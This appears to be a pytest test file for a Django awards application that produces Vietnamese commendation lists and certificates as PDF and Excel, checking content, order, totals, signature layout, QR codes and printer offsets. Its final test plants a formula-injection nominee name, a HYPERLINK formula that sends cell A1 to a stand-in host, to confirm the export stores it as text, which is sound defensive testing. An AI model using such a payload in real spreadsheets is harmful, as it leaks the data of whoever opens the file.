"""The awards printables, made through the document pipeline and read back."""

import io
from datetime import date

import pdfplumber
import pytest
from django.http import Http404
from openpyxl import load_workbook
from pypdf import PdfReader

from awards import services
from awards.layouts import default_fields
from awards.models import (
    Certificate,
    CertificateLayout,
    Gender,
    PrinterProfile,
    RecipientKind,
    Status,
)
from documents.fonts import font_for
from documents.pdfwriter import MM
from documents.services import request_document
from tests.awards.readback import qr_modules, text_lines
from tests.documents import readback
from tests.fidelity import MM as FIDELITY_MM
from tests.fidelity import assert_sound_pdf, read_pdf
from wards.models import Signer

NAMES = ["Trần Văn Bình", "Lê Thị An", "Nguyễn Văn An", "Đỗ Thị Ánh"]


@pytest.fixture
def decision(forms, ward_leader, make_nominee, make_nomination, make_decision):
    nominees = [
        make_nominee(
            name, gender=Gender.FEMALE if "Thị" in name else Gender.MALE, position="Tổ viên"
        )
        for name in NAMES
    ]
    nominees.append(make_nominee("Tổ hòa giải khu phố 2", kind=RecipientKind.COLLECTIVE))
    nominations = [
        make_nomination(forms["GKUBP"], nominee=nominee, status=Status.APPROVED)
        for nominee in nominees
    ]
    decision = make_decision(forms["GKUBP"])
    services.set_nominations(decision, nominations)
    return services.issue(ward_leader, decision)


def _pdf_text(job) -> list[str]:
    job.file.open("rb")
    reader = PdfReader(io.BytesIO(job.file.read()))
    return [page.extract_text() for page in reader.pages]


# --------------------------------------------------------------------------- commendation list


def test_list_pdf_in_ceremony_order_with_totals(people, decision):
    job = request_document(people["organiser"], "awards.decision_list", decision, "pdf")
    assert job.status == "done", job.error
    text = " ".join(_pdf_text(job))
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert "DANH SÁCH KHEN THƯỞNG" in text
    assert "Quyết định số 125/QĐ-UBND ngày 12/08/2025" in text
    order = [
        text.index(name)
        for name in [
            "Tổ hòa giải khu phố 2",
            "Lê Thị An",
            "Nguyễn Văn An",
            "Đỗ Thị Ánh",
            "Trần Văn Bình",
        ]
    ]
    assert order == sorted(order)
    # 4 people × 702,000 + 1 collective × 1,404,000
    assert "4.212.000" in text
    assert "Bốn triệu hai trăm mười hai nghìn đồng" in text
    assert "1 tập thể, 4 cá nhân" in text


def test_list_pdf_names_the_ward_and_is_signed(people, decision):
    vice = Signer.objects.create(unit=decision.unit, name="Nguyễn Thị Xuân", title="Phó Chủ tịch")
    job = request_document(
        people["organiser"],
        "awards.decision_list",
        decision,
        "pdf",
        {"signer": vice.pk, "capacity": "tm"},
    )
    assert job.status == "done", job.error
    job.file.open("rb")
    pdf = read_pdf(job.file.read())
    assert_sound_pdf(pdf)
    # The issuing body in full on two lines, never "UBND PHƯỜNG AN" under a superior line.
    body, ward = pdf.line("ỦY BAN NHÂN DÂN"), pdf.line("PHƯỜNG AN")
    assert body.bold
    assert ward.bold
    assert ward.top > body.top
    assert "UBND PHƯỜNG" not in pdf.text
    assert pdf.line("An, ngày 12 tháng 8 năm 2025").italic
    # The actual authority, not the catalogue's "phường, xã".
    assert pdf.line("I. GIẤY KHEN CỦA CHỦ TỊCH ỦY BAN NHÂN DÂN PHƯỜNG AN").bold
    assert "của Chủ tịch Ủy ban nhân dân phường An" in pdf.flat
    assert "phường, xã" not in pdf.text.lower()
    # The signature block under the total in words.
    words = pdf.line("(Bằng chữ:")
    tm, kt, title, name = (
        pdf.line("TM. ỦY BAN NHÂN DÂN"),
        pdf.line("KT. CHỦ TỊCH"),
        pdf.line("PHÓ CHỦ TỊCH"),
        pdf.line("Nguyễn Thị Xuân"),
    )
    assert (words.page, words.top) < (tm.page, tm.top)
    assert tm.top < kt.top < title.top < name.top
    assert name.top - title.bottom > 20 * FIDELITY_MM


def test_list_xlsx(people, decision):
    job = request_document(people["organiser"], "awards.decision_list", decision, "xlsx")
    assert job.status == "done", job.error
    job.file.open("rb")
    sheet = load_workbook(io.BytesIO(job.file.read())).active
    values = [
        [cell for cell in row if cell is not None] for row in sheet.iter_rows(values_only=True)
    ]
    flat = [str(value) for row in values for value in row]
    assert "Lê Thị An" in flat
    assert flat.index("Lê Thị An") < flat.index("Trần Văn Bình")
    # Numbers are numbers shown the Vietnamese way; subtotals and the total are formulas
    # Excel recomputes (SUBTOTAL leaves the groups' own subtotals out of the total).
    rows = list(sheet.iter_rows())
    people = [row for row in rows if isinstance(row[0].value, int)]
    assert all(isinstance(row[4].value, int) for row in people)
    assert {row[4].number_format for row in people} == {"#,##0"}
    assert sum(row[4].value for row in people) == 4_212_000
    born = [row[2].value for row in people if row[2].value is not None]
    assert born
    assert all(isinstance(year, int) and year > 1900 for year in born)
    total = next(row for row in rows if row[1].value == "Tổng cộng")
    assert total[4].value.startswith("=SUBTOTAL(9,E")
    assert all(row[4].value.startswith("=SUBTOTAL(9,E") for row in rows if row[1].value == "Cộng")
    readback.assert_sheet_printable(sheet, header_row=5)


def test_list_of_a_draft_decision_uses_the_decision_date(
    people, forms, make_nomination, make_decision
):
    decision = make_decision(forms["BKUBT"], day=date(2024, 6, 30))
    services.set_nominations(decision, [make_nomination(forms["BKUBT"], status=Status.APPROVED)])
    job = request_document(people["ward_official"], "awards.decision_list", decision, "pdf")
    assert "2.700.000" in " ".join(_pdf_text(job))


# --------------------------------------------------------------------------- certificates


def test_batch_has_one_page_per_certificate_in_order(people, decision):
    job = request_document(people["organiser"], "awards.decision_certificates", decision, "pdf")
    assert job.status == "done", job.error
    pages = _pdf_text(job)
    assert len(pages) == 5
    assert "Tổ hòa giải khu phố 2" in pages[0]
    assert "Bà Lê Thị An" in pages[1]
    assert "Ông Trần Văn Bình" in pages[4]
    assert "GIẤY KHEN" in pages[1]
    assert "Số: GKUBP-2025-000002" in pages[1]
    assert "CHỦ TỊCH ỦY BAN NHÂN DÂN PHƯỜNG AN" in pages[1]


def test_a_vice_chairman_signs_the_certificates_in_the_chairmans_stead(people, decision):
    vice = Signer.objects.create(unit=decision.unit, name="Nguyễn Thị Xuân", title="Phó Chủ tịch")
    job = request_document(
        people["organiser"],
        "awards.decision_certificates",
        decision,
        "pdf",
        {"signer": vice.pk, "capacity": "kt"},
    )
    assert job.status == "done", job.error
    job.file.open("rb")
    with pdfplumber.open(io.BytesIO(job.file.read())) as pdf:
        lines = text_lines(pdf.pages[1])
    # The heading names the authority that gives the Giấy khen, not the signer's title.
    assert "CHỦ TỊCH ỦY BAN NHÂN DÂN PHƯỜNG AN" in lines
    assert not any(text.startswith("PHÓ CHỦ TỊCH ỦY BAN") for text in lines)
    kt, title, name = lines["KT. CHỦ TỊCH"], lines["PHÓ CHỦ TỊCH"], lines["Nguyễn Thị Xuân"]
    # Baselines in PDF units grow upwards: the capacity above the title above the name.
    assert kt["baseline"] > title["baseline"] > name["baseline"]


def _check_positions(content, fields, offset=(0.0, 0.0), page_index=0):
    """Every box's text (its baseline under the box's top edge, its alignment) and the QR code
    land within 1 mm of where the layout, moved by the offset, puts them."""
    with pdfplumber.open(io.BytesIO(content)) as pdf:
        page = pdf.pages[page_index]
        lines = text_lines(page)
        height = float(page.height)
        for box in fields:
            if box["field"] == "qr":
                (image,) = page.images
                assert abs(image["x0"] / MM - (box["x"] + offset[0])) < 1
                assert abs(image["top"] / MM - (box["y"] + offset[1])) < 1
                continue
            font = font_for(box.get("bold"), box.get("italic"))
            expected = (box["y"] + offset[1]) * MM + font.ascent * box["size"] / font.units
            (line,) = [x for x in lines.values() if abs(height - x["baseline"] - expected) < MM]
            left, width = (box["x"] + offset[0]) * MM, box["width"] * MM
            anchor = {
                "center": ((line["x0"] + line["x1"]) / 2, left + width / 2),
                "right": (line["x1"], left + width),
            }.get(box.get("align"), (line["x0"], left))
            assert abs(anchor[0] - anchor[1]) < MM


def test_full_design_fields_land_within_a_millimetre(people, decision):
    job = request_document(people["organiser"], "awards.decision_certificates", decision, "pdf")
    job.file.open("rb")
    # The second page: a person, so every box has a text (a collective has no position).
    _check_positions(job.file.read(), default_fields(), page_index=1)


def test_overlay_follows_the_forms_layout_and_the_printers_offset(people, forms, decision, units):
    layout = CertificateLayout.objects.get(form=forms["GKUBP"])
    layout.fields = [
        {
            "field": "name",
            "x": 50,
            "y": 100,
            "width": 200,
            "size": 22,
            "align": "center",
            "bold": True,
        },
        {"field": "serial", "x": 25, "y": 180, "width": 80, "size": 11, "align": "left"},
        {"field": "signer_name", "x": 160, "y": 170, "width": 100, "size": 14, "align": "right"},
        {"field": "qr", "x": 262, "y": 140, "size": 30},
    ]
    layout.full_clean()
    layout.save()
    printer = PrinterProfile.objects.create(
        unit=units["ward"], name="HP", offset_x=2.5, offset_y=-1.5
    )
    job = request_document(
        people["organiser"],
        "awards.decision_certificates",
        decision,
        "pdf",
        {"overlay": "1", "printer": str(printer.pk)},
    )
    assert job.status == "done", job.error
    job.file.open("rb")
    content = job.file.read()
    text = PdfReader(io.BytesIO(content)).pages[0].extract_text()
    assert "GIẤY KHEN" not in text  # the blank has the title printed already
    with pdfplumber.open(io.BytesIO(content)) as pdf:
        lines = text_lines(pdf.pages[0])
    assert len(lines) == 3
    _check_positions(content, layout.fields, (2.5, -1.5))


def test_the_qr_code_is_the_stored_matrix(people, decision):
    certificate = Certificate.objects.get(nomination__nominee__name="Lê Thị An")
    job = request_document(people["organiser"], "awards.certificate", certificate, "pdf")
    assert job.status == "done", job.error
    job.file.open("rb")
    assert qr_modules(io.BytesIO(job.file.read())) == certificate.qr_matrix
    text = _pdf_text(job)
    assert len(text) == 1
    assert "Bà Lê Thị An" in text[0]


def test_printing_again_gives_the_same_serials_and_bytes(people, decision):
    first = request_document(people["organiser"], "awards.decision_certificates", decision, "pdf")
    second = request_document(people["organiser"], "awards.decision_certificates", decision, "pdf")
    first.file.open("rb")
    second.file.open("rb")
    assert first.file.read() == second.file.read()
    serials = sorted(Certificate.objects.values_list("number", flat=True))
    assert serials == [1, 2, 3, 4, 5]


def test_certificates_of_a_draft_decision_fail_with_the_reason(
    people, forms, make_nomination, make_decision
):
    decision = make_decision(forms["GKUBP"])
    services.set_nominations(decision, [make_nomination(forms["GKUBP"], status=Status.APPROVED)])
    job = request_document(people["organiser"], "awards.decision_certificates", decision, "pdf")
    assert job.status == "failed"
    assert "phải được ban hành trước" in job.error


def test_printing_is_scoped(people, decision):
    with pytest.raises(Http404):
        request_document(people["outsider"], "awards.decision_list", decision, "pdf")
    certificate = Certificate.objects.first()
    with pytest.raises(Http404):
        request_document(people["outsider"], "awards.certificate", certificate, "pdf")


def test_calibration_page(people, forms, units):
    printer = PrinterProfile.objects.create(
        unit=units["ward"], name="Canon", offset_x=1, offset_y=2
    )
    job = request_document(
        people["organiser"], "awards.calibration", printer, "pdf", {"form": str(forms["BKUBT"].pk)}
    )
    assert job.status == "done", job.error
    text = _pdf_text(job)[0]
    assert "Trang căn chỉnh" in text
    assert "Họ tên, tên tập thể" in text
    assert "lệch máy in 1" in text


def test_a_nominee_named_like_a_formula_is_listed_as_text(
    people, forms, ward_leader, make_nominee, make_nomination, make_decision
):
    hostile = '=HYPERLINK("http://x/?leak="&A1,"Bấm vào đây")'
    nomination = make_nomination(
        forms["GKUBP"], nominee=make_nominee(hostile), status=Status.APPROVED
    )
    decision = make_decision(forms["GKUBP"])
    services.set_nominations(decision, [nomination])
    services.issue(ward_leader, decision)
    job = request_document(people["organiser"], "awards.decision_list", decision, "xlsx")
    assert job.status == "done", job.error
    job.file.open("rb")
    sheet = load_workbook(io.BytesIO(job.file.read())).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
    assert [cell.data_type for cell in cells] == ["s"]
